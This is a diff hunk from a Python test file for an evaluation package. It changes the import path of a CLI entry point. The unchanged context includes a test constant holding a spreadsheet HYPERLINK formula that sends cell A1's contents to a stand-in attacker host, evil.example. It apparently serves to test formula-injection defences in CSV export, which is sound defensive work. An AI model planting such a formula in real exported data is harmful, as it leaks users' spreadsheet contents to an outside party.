@@ -15,7 +15,7 @@ import pytest
 
 from analysis.export import FORMULA_STARTS, MATCH_COLUMNS, TURN_COLUMNS, csv_text, seat_columns
 from deepeval_games import parse_spec, run_experiment
-from deepeval_games.app.cli import main
+from deepeval_games.app.commands.cli import main
 from tests.fake_openai_server import Behaviour, FakeOpenAIServer, model_player
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
